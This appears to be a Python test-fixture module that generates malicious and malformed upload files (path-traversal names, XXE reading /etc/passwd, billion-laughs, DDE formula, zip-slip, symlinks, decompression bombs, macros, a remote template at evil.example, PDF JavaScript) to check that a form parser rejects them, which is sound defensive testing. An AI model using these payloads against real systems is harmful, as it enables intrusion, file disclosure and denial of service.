"""Files that mean harm or are none: made here, each with the name it comes under and what has to become of it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping

import pypdf

from tests.samples import odt, pdf, people, word
from tests.samples.packing import packed
from tests.samples.word import paragraph


#: The outcome of a file that is opened after all.
OPENED = "opened"

_LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    f"<w:document {word.SPACES}><w:body>{paragraph('x')}</w:body></w:document>"
)
_OUTSIDE = (
    '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f"<w:document {word.SPACES}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
)
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
_EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def corpus() -> Iterator[tuple[str, bytes, str]]:
    """Every bad file: the name it comes under, its bytes, and the expected outcome."""
    yield from _names()
    yield from _not_documents()
    yield from _archives()
    yield from _words()
    yield from _pdfs()


def _names() -> Iterator[tuple[str, bytes, str]]:
    form = word.table_form(people.ELIN)
    yield "../../etc/form.docx", form, OPENED
    yield "form\x00.docx", form, OPENED
    yield "cod\u202excod.docx", form, OPENED
    yield f"{'f' * 300}.docx", form, OPENED
    yield "C:\\forms\\FORM.DOCX ", form, OPENED
    yield "", form, OPENED
    yield "form", form, OPENED
    yield ".docx", form, OPENED
    yield "form.pdf", form, "named-otherwise"
    yield "form.docx.exe", form, "named-otherwise"
    yield "form.png", form, "named-otherwise"
    yield "form.docx", odt.table_form({}), "named-otherwise"
    yield "form.odt", pdf.line_form({}), "named-otherwise"
    yield "form.docx", pdf.line_form({}), "named-otherwise"


def _not_documents() -> Iterator[tuple[str, bytes, str]]:
    yield "form.docx", b"", "empty"
    yield "form.pdf", b"\x00" * 4096, "empty"
    yield "form.pdf", b" \r\n\t", "empty"
    yield "form.pdf", b"%PDF-1.7\n" + b"\x00" * (20 * 1024 * 1024), "too-large"
    yield "form.docx", _picture(50_000, 50_000), "picture"
    yield "form.pdf", b"\xff\xd8\xff\xe0" + b"jpeg" * 9, "picture"
    yield "form.jpg", b"\x00\x00\x00\x18ftypheic" + b"\x00" * 20, "picture"
    yield "form.gif", b"GIF89a/*\x00*/=1;alert(1)", "picture"
    yield "form.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "web-page"
    yield "form.docx", b"<!-- a --><!DOCTYPE html><html><body>form</body></html>", "web-page"
    yield "form.docx", b"<?xml version='1.0'?><w:wordDocument/>", "web-page"
    yield "form.pdf", b"<html><script>alert(1)</script></html>" + pdf.line_form({}), "web-page"
    yield "form.pdf", b"\n\n" + pdf.line_form({}), "unknown"
    yield "form.com", _EICAR, "unknown"
    yield "form.txt", b"Forename: Callum\nSurname: Hart", "unknown"
    yield "form.docx", b"\x00\x01\x02 not a document", "unknown"
    yield "form.doc", _OLE + "WordDocument".encode("utf-16-le"), "old-word"
    yield "form.docx", _OLE + "EncryptedPackage".encode("utf-16-le"), "locked"
    yield "form.xls", _OLE + "Workbook".encode("utf-16-le"), "other-office"
    yield "form.rtf", rb"{\rtf1\ansi Forename: Callum}", "rtf"
    yield "form.7z", b"7z\xbc\xaf\x27\x1c", "archive"
    yield "form.docx", zlib.compress(b"x") and b"\x1f\x8b\x08\x00", "archive"


def _archives() -> Iterator[tuple[str, bytes, str]]:
    good = word.parts(paragraph("text"))
    yield "form.docx", packed({"a.txt": "x"}), "archive"
    yield "form.docx", packed({}), "archive"
    yield "form.docx", _nested(9), "archive"
    yield "form.docx", packed(good)[:-30], "broken"
    yield "form.docx", packed(good)[: len(packed(good)) // 2], "broken"
    yield "form.docx", b"PK\x03\x04" + b"\x00" * 100, "broken"
    yield "form.docx", packed(good | {"word/media/zeros.bin": b"\x00" * 12_000_000}), "unpacks-too-large"
    yield (
        "form.docx",
        packed(good | {f"word/media/{n}.bin": b"\x00" * 900_000 for n in range(120)}),
        "unpacks-too-large",
    )
    yield "form.docx", packed(good | {f"word/{n}.xml": "" for n in range(1_001)}), "unpacks-too-large"
    yield "form.docx", _lying(packed(good)), "broken"
    yield "form.docx", packed(good | {"../../evil.xml": "x"}), "strange-archive"
    yield "form.docx", packed(good | {"/etc/evil": "x"}), "strange-archive"
    yield "form.docx", packed(good | {"C:\\evil": "x"}), "strange-archive"
    yield "form.docx", _with_link(good), "strange-archive"
    yield "form.docx", _twice(good), "strange-archive"
    yield "form.docx", _other_compression(good), "strange-archive"
    yield "form.docx", _encrypted(packed(good)), "locked"
    yield "form.docx", b"MZ" + packed(good), "unknown"
    yield "form.docx", packed(good | {"word/document.xml": b"\x00\xff not xml"}), "broken"
    yield "form.docx", packed({k: v for k, v in good.items() if k != "word/document.xml"}), "other-office"


def _words() -> Iterator[tuple[str, bytes, str]]:
    body = paragraph("text")
    good = word.parts(body)
    macro = word.MAIN.replace(
        "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled"
    )
    sheet = word.MAIN.replace("wordprocessingml.document", "spreadsheetml.sheet")
    dynamic = "<worksheet><c><f>cmd|' /C calc'!A0</f></c></worksheet>"
    yield "form.docm", packed(word.parts(body, kind=macro)), "macros"
    yield "form.docx", packed(word.parts(body, kind=macro)), "macros"
    yield "form.docx", packed(good | {"word/vbaProject.bin": b"\xcc\x61"}), "macros"
    yield (
        "form.xlsm",
        packed(word.parts(body, kind=sheet.replace("sheet.main", "sheet.macroEnabled.main"))),
        "macros",
    )
    yield (
        "form.xlsx",
        packed(word.parts(body, kind=sheet) | {"xl/worksheets/sheet1.xml": dynamic}),
        "other-office",
    )
    yield "form.docx", packed(good | {"word/document.xml": _LAUGHS}), "document-type"
    yield "form.docx", packed(good | {"word/document.xml": _OUTSIDE}), "document-type"
    yield "form.docx", packed(good | {"word/document.xml": _OUTSIDE.encode("utf-16")}), "document-type"
    yield "form.docx", packed(good | {"[Content_Types].xml": _LAUGHS}), "document-type"
    yield "form.docx", packed(good | {"word/styles.xml": _LAUGHS}), "document-type"
    yield "form.odt", packed(odt.parts("") | {"content.xml": _LAUGHS}, stored=("mimetype",)), "document-type"
    yield "form.docx", packed(good | {"word/document.xml": "<a>" * 5_000 + "</a>" * 5_000}), "too-long"
    yield "form.docx", packed(good | {"word/document.xml": f"<a>{'<b/>' * 60_001}</a>"}), "too-long"
    yield (
        "form.docx",
        packed(good | {"word/document.xml": f"<a>{_noise(4_400_000)}</a>"}),
        "unpacks-too-large",
    )
    yield "form.docx", packed(good | {"word/document.xml": f"<a{_attributes(150_001)}/>"}), "too-long"
    yield "form.docx", packed(good | {"word/document.xml": f"<a>{'<b></b>' * 60_001}</a>"}), "too-long"
    yield "form.docx", packed(good | {"word/embeddings/x.bin": b"\xd0\xcf\x11\xe0"}), OPENED
    yield "form.docx", _remote_template(good), OPENED


def _pdfs() -> Iterator[tuple[str, bytes, str]]:
    good = pdf.line_form(people.ELIN)
    script = "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>"
    yield "form.pdf", pdf.Paper().written(), "no-words"
    yield "form.pdf", _scanned(), "no-text"
    yield "form.pdf", _paper("text").written(root=script, extra=[b"<</Type/Filespec/F(evil.exe)>>"]), OPENED
    yield "form.pdf", _encrypted_pdf(good), "locked-pdf"
    yield "form.pdf", good + packed({"a": "b"}), "two-kinds"
    yield "form.pdf", good[: len(good) // 3], "broken-pdf"
    yield "form.pdf", b"%PDF-1.7\n%%EOF", "broken-pdf"
    yield "form.pdf", b"%PDF-1.7\n" + _noise(20_000).encode(), "broken-pdf"
    yield "form.pdf", _pages(41), "too-many-pages"
    yield "form.pdf", _endless_pages(), "broken-pdf"
    yield "form.pdf", b"%PDF-1.7\n" + b"1 0 obj\nendobj\n" * 25_001, "too-crowded"
    yield "form.pdf", b"%PDF-1.7\nxref\n" + b"0000000000 00000 n \n" * 25_001, "too-crowded"
    yield "form.pdf", _content(b"BT /F1 9 Tf (" + b"x" * 25_000 + b") Tj ET"), "too-crowded"
    yield "form.pdf", _content(b"0 0 9 9 re S\n" * 4_001), "too-crowded"
    yield "form.pdf", _content(b"q " * 3_000_000), "too-crowded"
    yield "form.pdf", _content(b" " * 30_000_000), "too-crowded"
    yield "form.pdf", _inside_itself(), "too-crowded"
    yield "form.pdf", _forms_of_forms(), "too-crowded"
    yield "form.pdf", _part_of_itself(), OPENED
    yield "form.pdf", _many_fields(), "too-crowded"
    yield "form.pdf", _pointing_nowhere(), "too-crowded"


def _picture(width: int, height: int) -> bytes:
    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))


def _noise(length: int) -> str:
    """Text that does not compress a thousandfold."""
    return "".join(f"{n * 2654435761 % 4294967296:08x}" for n in range(length // 8))


def _attributes(count: int) -> str:
    return "".join(f' a{number}=""' for number in range(count))


def _nested(depth: int) -> bytes:
    data = b"innermost"
    for level in range(depth):
        data = packed({f"{level}.zip": data})
    return data


def _lying(data: bytes) -> bytes:
    """An archive whose directory says that the document is smaller than it unpacks to."""
    place = data.rindex(b"word/document.xml") - 46
    return data[: place + 24] + struct.pack("<I", 10) + data[place + 28 :]


def _with_link(parts: Mapping[str, bytes | str]) -> bytes:
    out = io.BytesIO(packed(parts))
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _twice(parts: Mapping[str, bytes | str]) -> bytes:
    data = packed({**parts, "word/documenT.xml": "other"})
    return data.replace(b"word/documenT.xml", b"word/document.xml")


def _other_compression(parts: Mapping[str, bytes | str]) -> bytes:
    out = io.BytesIO(packed(parts))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("word/other.xml", "x" * 100)
    return out.getvalue()


def _encrypted(data: bytes) -> bytes:
    """The same archive with the flag set that says that its first member is encrypted."""
    place = data.index(b"PK\x01\x02")
    return data[: place + 8] + b"\x01" + data[place + 9 :]


def _remote_template(parts: Mapping[str, bytes | str]) -> bytes:
    relation = (
        '<Relationship Type="x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
    )
    name = "word/_rels/document.xml.rels"
    return packed({**parts, name: str(parts[name]).replace("</Rel", f"{relation}</Rel")})


def _paper(text: str) -> pdf.Paper:
    paper = pdf.Paper()
    paper.text(40, 100, text)
    return paper


def _content(content: bytes) -> bytes:
    paper = pdf.Paper()
    paper.raw(content)
    return paper.written()


def _pages(count: int) -> bytes:
    paper = _paper("one")
    for _ in range(count - 1):
        paper.new_page()
    return paper.written()


def _endless_pages() -> bytes:
    return pdf.assembled([b"<</Type/Pages/Count 9/Kids[1 0 R 1 0 R]>>", b"<</Type/Catalog/Pages 1 0 R>>"])


def _scanned() -> bytes:
    """A page with a picture and no text, as a scanner makes it."""
    paper = pdf.Paper()
    paper.raw(b"q 595 0 0 842 0 0 cm /Im1 Do Q")
    picture = (
        b"<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Length 1>>"
    )
    data = paper.written(extra=[picture + b"\nstream\n\x00\nendstream"])
    return data.replace(
        b"/Resources<</Font<</F1 3 0 R>>>>/Annots", b"/Resources<</XObject<</Im1 4 0 R>>>>/Annots"
    )


def _encrypted_pdf(data: bytes) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(data))
    writer.encrypt("", "owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _with_forms(make: Callable[[int], bytes], count: int) -> bytes:
    paper = pdf.Paper()
    paper.raw(b"/X4 Do")
    data = paper.written(extra=[make(number) for number in range(4, 4 + count)])
    return data.replace(
        b"/Resources<</Font<</F1 3 0 R>>>>/Annots", b"/Resources<</XObject<</X4 4 0 R>>>>/Annots"
    )


def _inside_itself() -> bytes:
    head = b"<</Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X4 4 0 R>>>>/Length 6>>"
    return _with_forms(lambda _: head + b"\nstream\n/X4 Do\nendstream", 1)


def _forms_of_forms() -> bytes:
    """Each form invokes the next a hundred times: ten thousand million letters out of a few hundred bytes."""

    def form(number: int) -> bytes:
        inner = b"/X%d Do " % (number + 1) * 100 if number < 8 else b"BT (ha) Tj ET"
        head = b"<</Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X%d %d 0 R>>>>/Length %d>>"
        return head % (number + 1, min(number + 1, 8), len(inner)) + b"\nstream\n" + inner + b"\nendstream"

    return _with_forms(form, 5)


def _part_of_itself() -> bytes:
    paper = _paper("Surname")
    paper.field((300, 98, 500, 114), Parent="4 0 R", V="(Hart)")
    return paper.written(extra=[b"<</FT/Tx/T(a)/Parent 4 0 R>>"])


def _many_fields() -> bytes:
    paper = _paper("Surname")
    for _ in range(2_001):
        paper.field((300, 98, 500, 114), FT="/Tx", V="(x)")
    return paper.written()


def _pointing_nowhere() -> bytes:
    """Pages that do not exist, each of which a patient parser looks for in the whole file."""
    kids = b" ".join(b"%d 0 R" % number for number in range(100, 400))
    padding = b"%" + b"x" * 1_000_000
    return pdf.assembled(
        [b"<</Type/Pages/Count 9/Kids[" + kids + b"]>>", padding, b"<</Type/Catalog/Pages 1 0 R>>"]
    )
